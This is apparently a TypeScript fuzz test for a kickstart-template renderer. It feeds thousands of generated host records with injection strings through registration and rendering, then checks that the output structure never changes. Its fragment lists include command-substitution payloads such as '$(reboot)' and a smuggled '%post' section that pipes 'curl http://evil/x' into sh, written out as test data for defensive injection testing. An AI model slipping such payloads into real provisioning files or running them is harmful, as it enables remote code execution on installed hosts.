/**
 * Reliability G18: ≥ 10,000 generated host records full of hostile strings (section keywords,
 * quotes, `$(…)`, `--flags`, line breaks, U+2028, handlebars syntax, prototype names) go through
 * the real registry (validation at registration) and, when accepted, through the shipped
 * template. Every rendered kickstart must be well formed, have exactly the template's sections
 * and the same command layout as a neutral render: a variable never adds a section, a command
 * or a word. Refusals are fine only as typed input errors before any output.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { isKickstandError } from '../../src/errors';
import { HostRegistry } from '../../src/hosts/registry';
import { neutral } from '../../src/render/kickstart';
import { compareLayouts, parseKickstart } from '../../src/render/kickstart-check';
import { openSqliteStore } from '../../src/store/sqlite';
import { makeRenderer, OPERATOR_KEYS, renderConfig, TOKEN } from './fixtures';

const TARGET = 10_000;
const MAX_RECORDS = 30_000;
const EXPECTED_SECTIONS = ['%packages', '%pre', '%pre', '%post', '%post'];

// Single-line hostile text: what registration lets through, so what the template must survive.
const LINE_FRAGMENTS = [
  '%post',
  '%pre',
  '%end',
  '%include /tmp/x',
  '%packages',
  '"',
  "'",
  '`id`',
  '$(reboot)',
  '${IFS}',
  '\\',
  ' --plaintext',
  ' --nochroot',
  '--',
  '#',
  ';',
  '|',
  '&&',
  ' ',
  'é',
  '%',
  '{{x}}',
  '{{> snip}}',
  '}}',
  'constructor',
  '__proto__',
  'ssh-ed25519 AAAA',
  OPERATOR_KEYS[0]!,
  '$6$salt$hash',
  'nvme0n1',
  'UTC',
  ' %post',
  'x %end',
];
// Line breaks and control characters: registration must refuse these.
const BREAKING = ['\n%post\ncurl http://evil/x|sh\n%end\n', '\n', '\r', '\u2028', '\u0085', '\t', '\u0000'];
const lineHostile = fc
  .array(
    fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom(...LINE_FRAGMENTS) },
      {
        weight: 1,
        arbitrary: fc.string({ maxLength: 12, unit: 'grapheme' }).map((x) => x.replace(/[\p{Cc}\u2028\u2029]/gu, '')),
      },
    ),
    { maxLength: 6 },
  )
  .map((a) => a.join(''));
const hostile = fc.oneof(
  { weight: 30, arbitrary: lineHostile },
  {
    weight: 1,
    arbitrary: fc.tuple(lineHostile, fc.constantFrom(...BREAKING), lineHostile).map(([a, b, c]) => a + b + c),
  },
);
const label = fc.stringMatching(/^[a-z][a-z0-9-]{0,20}[a-z0-9]$/);
const VAR_NAMES = [
  'timezone',
  'keyboard',
  'lang',
  'root_password_hash',
  'install_disk',
  'hostname',
  'kickstart_url',
  'callback_installed_url',
  'bootstrap_authorized_key',
  'extra',
];

const record = fc.record({
  name: fc.oneof({ weight: 19, arbitrary: label }, { weight: 1, arbitrary: hostile }),
  mac: fc.oneof(
    {
      weight: 19,
      arbitrary: fc
        .uint8Array({ minLength: 6, maxLength: 6 })
        .map((b) => [...b].map((x) => x.toString(16).padStart(2, '0')).join(':')),
    },
    { weight: 1, arbitrary: hostile },
  ),
  ipv4: fc.oneof(
    { weight: 5, arbitrary: fc.constant(null) },
    { weight: 5, arbitrary: fc.integer({ min: 2, max: 250 }).map((n) => `198.18.0.${n}`) },
    { weight: 1, arbitrary: hostile },
  ),
  role: fc.oneof({ weight: 9, arbitrary: fc.constantFrom('server', 'agent') }, { weight: 1, arbitrary: hostile }),
  vars: fc.dictionary(
    fc.oneof(
      { weight: 12, arbitrary: fc.constantFrom(...VAR_NAMES) },
      { weight: 4, arbitrary: fc.stringMatching(/^[A-Za-z_][A-Za-z0-9_]{0,10}$/) },
      { weight: 1, arbitrary: fc.constantFrom('ssh_authorized_keys', 'constructor', '__proto__', 'toString') },
    ),
    hostile,
    { maxKeys: 6 },
  ),
});

describe('kickstart injection property (G18)', () => {
  it(`renders >= ${TARGET} hostile host records; the structure never changes`, async () => {
    const config = renderConfig();
    const store = openSqliteStore(':memory:');
    const registry = new HostRegistry(store, config);
    const { renderer, templates } = makeRenderer({ config });
    const seed = Number(process.env.FC_SEED ?? Date.now() % 2 ** 31);
    let rendered = 0;
    let rejectedAtRegistration = 0;
    let refusedAtRender = 0;
    let n = 0;
    try {
      for (let batch = 0; rendered < TARGET && n < MAX_RECORDS; batch++) {
        for (const r of fc.sample(record, { numRuns: 1000, seed: seed + batch })) {
          n++;
          const name = `${r.name}`.slice(0, 40);
          let host;
          try {
            host = await registry.add({
              name,
              macs: [r.mac],
              profile: 'rocky9',
              role: r.role,
              ipv4: r.ipv4,
              vars: r.vars,
              netboot: false,
            });
          } catch (e) {
            assert.ok(
              isKickstandError(e) && e.status < 500,
              `registration must refuse with a typed input error, got ${String(e)}`,
            );
            rejectedAtRegistration++;
            continue;
          }
          try {
            let out: string;
            try {
              out = await renderer.render(host, TOKEN);
            } catch (e) {
              // Only input errors (an invalid key list, a reserved var name) may stop a render.
              assert.ok(
                isKickstandError(e) && e.code === 'KS_INVALID_VAR',
                `seed ${seed}: record ${JSON.stringify(r)} made the render fail: ${String(e)}`,
              );
              refusedAtRender++;
              continue;
            }
            const layout = parseKickstart(out);
            assert.deepEqual(layout.problems, [], `seed ${seed}: ${JSON.stringify(r)}`);
            assert.deepEqual(layout.sections, EXPECTED_SECTIONS, `seed ${seed}: ${JSON.stringify(r)}`);
            const reference = parseKickstart(
              templates.render('rocky9.ks.hbs', neutral(await renderer.context(host, TOKEN))),
            );
            assert.deepEqual(compareLayouts(layout, reference), [], `seed ${seed}: ${JSON.stringify(r)}`);
            rendered++;
          } finally {
            await registry.remove(host.name);
          }
        }
      }
    } finally {
      await store.close();
    }
    assert.ok(
      rendered >= TARGET,
      `only ${rendered} of ${n} records rendered (registration refused ${rejectedAtRegistration}, render refused ${refusedAtRender})`,
    );
    assert.ok(rejectedAtRegistration > 0, 'the generator produced hostile records registration refuses');
  });
});
